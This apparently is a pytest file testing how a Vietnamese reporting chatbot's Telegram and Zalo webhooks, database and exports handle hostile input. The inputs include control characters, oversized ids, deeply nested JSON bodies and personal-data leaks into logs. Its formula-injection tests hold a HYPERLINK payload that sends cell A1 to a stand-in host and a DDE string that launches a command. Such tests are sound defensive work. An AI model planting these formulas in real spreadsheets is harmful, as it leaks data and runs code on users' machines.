"""The worst a person or a platform can send: NUL and control characters, ids too large for any table, text that a
spreadsheet would run as a formula, and webhook bodies that are not updates. Each gets a polite answer or a 400,
loses nothing and breaks nothing, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import logging

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from pydantic import SecretStr
from sqlalchemy import select

from bot.app import App
from bot.channels.telegram import make_bot
from bot.channels.telegram_webhook import add_telegram_route
from bot.channels.zalo import add_zalo_route
from bot.cli import DATA_LOGGERS, keep_data_out_of_logs
from bot.config import Settings
from handlers.register.exports import register_rows
from handlers.register.sheet import workbook
from handlers.reports.exports import activity_rows, to_csv
from storage.models import ActivityReport, OutboxMessage, Person
from storage.people import Role
from storage.text import inert, printable, record_id
from tests.helpers import DA_NANG, Transcript, activity_lines, invite, member, seed_units
from tests.test_overseas import RECORD, add_record

APOLOGY = "Xin lỗi, hệ thống vừa gặp sự cố"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


async def test_control_characters_never_reach_the_database(app: App) -> None:
    await seed_units(app)
    officer = await member(app, "mai")
    for line in activity_lines("tuyen truyen", "hôm nay", "Tuyên\x00 truyền\x1b[31m Chỉ thị 12", "Hội trường\x07", "40",
                               description="Mô tả\x00\r\ndòng hai"):  # fmt: skip
        assert APOLOGY not in await officer.say(line)
    assert "Đã lưu" in await officer.say("xác nhận")
    assert APOLOGY not in await officer.say("/kieubao tim \x00")
    assert APOLOGY not in await officer.say("/kieubao tim \x00\x00an")
    async with app.db.transaction() as session:
        report = (await session.scalars(select(ActivityReport))).one()
    assert report.title == "Tuyên truyền[31m Chỉ thị 12" and report.place == "Hội trường"
    assert "\x00" not in (report.description or "") and "dòng hai" in (report.description or "")


@pytest.mark.parametrize("command", [
    "/kieubao 99999999999999999999", "/kieubao #2147483648", "/kieubao xem 99999999999999999999",
    "/duyet 99999999999999999999", "/kehoach 99999999999999999999", "/danhan 99999999999999999999",
    "/thongbao 99999999999999999999", "/thongbao nhaclai 99999999999999999999", "/lichbaocao sua 99999999999999",
    "/tiendo 99999999999999999999 2026-11", "/baocaoky 99999999999999999999 2026-11", "/kieubao nhap 2147483648",
    "/duyet " + "9" * 4000,
])  # fmt: skip
async def test_ids_too_large_for_any_table_are_not_found(app: App, command: str) -> None:
    await seed_units(app)
    admin = await member(app, "quan", unit_code=DA_NANG, role=Role.ADMIN, name="Quản Trị")
    answer = await admin.say(command)
    assert answer and APOLOGY not in answer


@given(st.text(max_size=30))
def test_record_ids_are_small_positive_integers_or_none(text: str) -> None:
    found = record_id(text)
    assert found is None or (0 < found <= 2**31 - 1 and str(found) in text)


@given(st.text(max_size=200))
def test_printable_text_has_no_control_characters(text: str) -> None:
    kept = printable(text)
    assert all(ch in "\n" or (ord(ch) >= 0x20 and not 0x7F <= ord(ch) <= 0x9F) for ch in kept)
    assert len(kept) <= len(text) + 0 and "\x00" not in kept


async def test_formulas_typed_by_people_stay_text_in_exports(app: App) -> None:
    await seed_units(app)
    officer = await member(app, "mai")
    for line in [*activity_lines("tuyen truyen", "hôm nay", FORMULA, "-2+3", "40",
                                 description="@SUM(1+1)*cmd|' /C calc'!A0"), "xác nhận"]:  # fmt: skip
        await officer.say(line)
    rows = await activity_rows(app.db, None, actor_label="test")
    exported = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert exported[0]["title"] == "'" + FORMULA
    assert exported[0]["description"].startswith("'@") and exported[0]["place"] == "'-2+3"
    assert inert(-5) == -5 and inert("Hội An") == "Hội An"

    assert RECORD[5] == "San Jose"  # the city, free text
    await add_record(officer, [*RECORD[:5], FORMULA, *RECORD[6:]])
    await officer.say("xác nhận")
    book = load_workbook(io.BytesIO(workbook(await register_rows(app.db, app.cipher, None, actor_label="test"))))
    cells = [value for row in book.active.iter_rows(min_row=2, values_only=True) for value in row]  # type: ignore[union-attr]
    assert "'" + FORMULA in cells and not any(isinstance(value, str) and value.startswith("=") for value in cells)


@pytest.fixture
async def webhooks(app: App, settings: Settings) -> TestClient:
    """The real Telegram and Zalo webhook routes in an aiohttp test server (no Bot API calls are made)."""
    settings.webhook_secret = SecretStr("hostile-secret_1")
    settings.zalo_webhook_secret = SecretStr("hostile-secret_2")
    settings.telegram_bot_token = SecretStr("42:TEST")
    site = web.Application()
    bot = make_bot(settings)
    add_telegram_route(site, bot, app.pipeline, settings)
    add_zalo_route(site, app.pipeline, settings)
    client = TestClient(TestServer(site))
    await client.start_server()
    yield client
    await client.close()
    await bot.session.close()


@pytest.mark.parametrize("body", [
    "[" * 100_000 + "]" * 100_000,
    '{"update_id": 1, "message": ' + '{"a": ' * 50_000 + "1" + "}" * 50_001,
    "not json", "", "[]", '"a string"', "null",
])  # fmt: skip
async def test_poison_telegram_bodies_are_refused_not_retried(webhooks: TestClient, body: str) -> None:
    headers = {"X-Telegram-Bot-Api-Secret-Token": "hostile-secret_1", "Content-Type": "application/json"}
    response = await webhooks.post("/telegram/webhook", data=body, headers=headers)
    assert response.status == 400


async def test_a_body_that_is_not_json_by_its_content_type_is_refused(webhooks: TestClient) -> None:
    headers = {"X-Telegram-Bot-Api-Secret-Token": "hostile-secret_1", "Content-Type": "text/plain"}
    response = await webhooks.post("/telegram/webhook", data=json.dumps({"update_id": 5}), headers=headers)
    assert response.status == 400


@pytest.mark.parametrize("update", [
    {"event_name": "message.text.received", "message": "not an object"},
    {"event_name": "message.text.received", "message": {"message_id": "m1", "chat": "x", "from": ["y"]}},
    {"event_name": "message.text.received", "message": {"message_id": "m2", "chat": {"id": "c"},
                                                       "from": {"id": "u", "display_name": {"x": 1}}, "text": "hi"}},
    {"event_name": "message.text.received", "message": None}, [1, 2], {"result": "nope"},
])  # fmt: skip
async def test_malformed_zalo_events_are_answered_and_dropped(webhooks: TestClient, update: object) -> None:
    headers = {"X-Bot-Api-Secret-Token": "hostile-secret_2"}
    response = await webhooks.post("/zalo/webhook", json=update, headers=headers)
    assert response.status == 200
    deep = await webhooks.post(
        "/zalo/webhook", data="[" * 100_000, headers={**headers, "Content-Type": "application/json"}
    )
    assert deep.status == 400


async def test_delivered_messages_keep_no_personal_data(app: App) -> None:
    """An opened record's name and phone reached the officer; afterwards the outbox holds only ids, status, times."""
    await seed_units(app)
    officer = await member(app, "mai")
    await add_record(officer, RECORD)
    await officer.say("xác nhận")
    shown = await officer.say("/kieubao 1")
    assert "Nguyễn Văn An" in shown and "0912 345 678" in shown
    await officer.say("/kieubao xoa 1")
    await officer.say("xác nhận")
    async with app.db.transaction() as session:
        rows = (await session.execute(select(OutboxMessage.status, OutboxMessage.payload))).all()
    assert rows and all(status == "sent" and payload == {} for status, payload in rows), rows[:3]


async def test_names_in_profiles_are_checked_and_tidied(app: App) -> None:
    await seed_units(app)
    chat = Transcript(app, "minh")
    await chat.say("xin chào")
    await chat.say(await invite(app))
    assert "chỉ gồm chữ cái" in await chat.say("123")
    assert "Cảm ơn Trần Văn Minh" in await chat.say("  trần văn   minh ")
    async with app.db.transaction() as session:
        assert (await session.scalars(select(Person.full_name))).all() == ["Trần Văn Minh"]


async def test_debug_logging_writes_nothing_personal(app: App, caplog: pytest.LogCaptureFixture) -> None:
    logging.getLogger().setLevel(logging.DEBUG)
    keep_data_out_of_logs()
    try:
        with caplog.at_level(logging.DEBUG):
            await seed_units(app)
            officer = await member(app, "mai")
            await add_record(officer, RECORD)
            await officer.say("xác nhận")
            await officer.say("/kieubao 1")
    finally:
        for name in DATA_LOGGERS:
            logging.getLogger(name).setLevel(logging.NOTSET)
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert "Nguyễn Văn An" not in logged and "0912" not in logged and "345678" not in logged
